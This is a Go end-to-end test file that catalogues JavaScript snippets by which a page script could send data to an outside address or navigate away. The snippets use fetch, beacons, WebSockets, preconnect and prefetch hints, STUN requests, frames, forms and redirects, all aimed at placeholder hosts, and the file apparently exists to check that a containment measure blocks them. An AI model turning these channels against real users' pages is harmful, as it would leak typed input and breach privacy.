//go:build !js

package e2e

import "strings"

// A way is one way for a script in the page to tell somebody something, or to
// take the person there. HERE stands for an address of a stranger, OWN for one of
// the page's own server, PORT for a port that takes datagrams.
type way struct {
	name, script string
	leaves       bool   // it goes away from the page, where it is let
	untried      string // engines that do not do it in a page without our measures either
	out          string // engines in which it gets out of ours
}

// what the scripts have in common.
const (
	element = `const make = (name, set, into) => { const e = document.createElement(name); Object.assign(e, set); if (into) into.append(e); return e; };`
	stun    = `const stun = (w) => { const c = new w.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PORT" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); };`
)

var ways = []way{
	// Requests: what a policy is for.
	{name: "fetch", script: `fetch("HERE", { mode: "no-cors" }).catch(() => {})`},
	{name: "xhr", script: `const x = new XMLHttpRequest(); x.open("GET", "HERE"); x.send()`},
	{name: "beacon", script: `navigator.sendBeacon("HERE", "x")`},
	{name: "event-source", script: `new EventSource("HERE")`},
	{name: "web-socket", script: `new WebSocket("HERE".replace("http", "ws"))`},
	{name: "image", script: `new Image().src = "HERE"`},
	{name: "background", script: `document.body.style.backgroundImage = "url(HERE)"`},
	{name: "style", script: `make("link", { rel: "stylesheet", href: "HERE" }, document.head)`},
	{name: "font", script: `new FontFace("f", "url(HERE)").load().catch(() => {})`},
	{name: "script", script: `make("script", { src: "HERE" }, document.head)`},
	{name: "module", script: `make("script", { type: "module", src: "HERE" }, document.head)`},
	{name: "frame", script: `make("iframe", { src: "HERE" }, document.body)`},
	{name: "media", script: `new Audio("HERE").play().catch(() => {})`},
	{name: "object", script: `make("object", { data: "HERE" }, document.body)`},
	{name: "fetch in a frame", script: `make("iframe", {}, document.body).contentWindow.fetch("HERE", { mode: "no-cors" }).catch(() => {})`},
	{name: "form in a frame", script: `make("iframe", { name: "blank" }, document.body); make("form", { action: "HERE", target: "blank" }, document.body).submit()`},

	// Hints: an address of them can carry what was typed, though nothing is asked for.
	{name: "preconnect", script: `make("link", { rel: "preconnect", href: "HERE" }, document.head)`},
	{name: "preconnect, altered", script: `Object.assign(document.querySelector("link"), { rel: "preconnect", href: "HERE" })`},
	{name: "preconnect, by attribute", script: `const l = document.querySelector("link").cloneNode(); l.setAttribute("href", "HERE"); l.setAttribute("rel", "preconnect"); document.head.append(l)`},
	{name: "preconnect, by its attributes", script: `const l = document.querySelector("link").attributes; l.href.value = "HERE"; l.rel.value = "preconnect"`},
	{name: "prefetch", untried: "webkit", script: `make("link", { rel: "prefetch", href: "HERE" }, document.head)`},
	{name: "prefetch by rules", untried: "firefox webkit", script: `make("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: ["HERE"], eagerness: "immediate" }] }) }, document.head)`},

	// Datagrams to find out one's own address.
	{name: "stun", untried: "webkit", script: `stun(window)`},
	{name: "stun in a frame", untried: "webkit", script: `stun(make("iframe", {}, document.body).contentWindow)`},

	// The page's own server is somebody else, too.
	{name: "stun in a frame of one's own", untried: "webkit", script: `class Frame extends HTMLIFrameElement {} customElements.define("own-frame", Frame, { extends: "iframe" }); const f = new Frame(); document.body.append(f); stun(f.contentWindow)`},
	{name: "own fetch", script: `fetch("OWN").catch(() => {})`},
	{name: "own beacon", script: `navigator.sendBeacon("OWN", "x")`},
	{name: "own image", script: `new Image().src = "OWN"`},
	{name: "own script", script: `make("script", { src: "OWN" }, document.head)`},
	{name: "own style", script: `make("link", { rel: "stylesheet", href: "OWN" }, document.head)`},
	{name: "own worker", script: `new Worker("OWN")`},
	{name: "own service worker", script: `navigator.serviceWorker.register("OWN").catch(() => {})`},

	// Leaving the page.
	{name: "download", leaves: true, script: `make("a", { href: "HERE", download: "" }, document.body).click()`},
	{name: "location", out: "webkit", leaves: true, script: `location.href = "HERE"`},
	{name: "navigate", untried: "webkit", leaves: true, script: `navigation.navigate("HERE")`},
	{name: "link", leaves: true, script: `make("a", { href: "HERE" }, document.body).click()`},
	{name: "loose link", leaves: true, script: `make("a", { href: "HERE" }).click()`},
	{name: "form", leaves: true, script: `make("form", { action: "HERE" }, document.body).submit()`},
	{name: "link of a drawing", leaves: true, script: `const a = document.createElementNS("http://www.w3.org/2000/svg", "a"); a.setAttribute("href", "HERE"); document.body.append(a); a.dispatchEvent(new MouseEvent("click", { bubbles: true }))`},
	{name: "refresh", leaves: true, script: `make("meta", { httpEquiv: "refresh", content: "0; url=HERE" }, document.head)`},
	{name: "refresh, altered", untried: "firefox", leaves: true, script: `Object.assign(document.querySelector("meta[name]"), { httpEquiv: "refresh", content: "0; url=HERE" })`},
	{name: "page of one's own", leaves: true, script: `location.href = URL.createObjectURL(new Blob(["<meta http-equiv=refresh content='0; url=HERE'>"], { type: "text/html" }))`},
	{name: "link to such a page", leaves: true, script: `make("a", { href: URL.createObjectURL(new Blob(["<meta http-equiv=refresh content='0; url=HERE'>"], { type: "text/html" })) }, document.body).click()`},
	{name: "own address, reloaded", out: "webkit", leaves: true, script: `history.pushState(null, "", "OWN"); location.reload()`},
	{name: "own cookie", leaves: true, script: `document.cookie = "told=" + location.port + "; SameSite=Lax"; location.reload()`},

	// Other windows.
	{name: "open", untried: "webkit", script: `open("HERE")`},
	{name: "open in a frame", untried: "webkit", script: `make("iframe", {}, document.body).contentWindow.open("HERE")`},
	{name: "link to a window", script: `make("a", { href: "HERE", target: "_blank" }, document.body).click()`},
	{name: "loose link to a window", script: `make("a", { href: "HERE", target: "_blank" }).click()`},
	{name: "dispatched link to a window", script: `make("a", { href: "HERE", target: "_blank" }).dispatchEvent(new MouseEvent("click"))`},
	{name: "click on a link to a window that nobody can prevent", script: `make("a", { href: "HERE", target: "_blank" }, document.body).dispatchEvent(new MouseEvent("click", { bubbles: true }))`},
	{name: "form to a window", untried: "webkit", script: `make("form", { action: "HERE", target: "_blank" }, document.body).submit()`},
}

// at is the script of a way for these places. It says what it was thrown.
func (w way) at(here, own, port string) string {
	script := strings.NewReplacer("HERE", here, "OWN", own, "PORT", port).Replace(element + stun + w.script)
	return `(() => { try { ` + script + `; return ""; } catch (err) { return String(err); } })()`
}
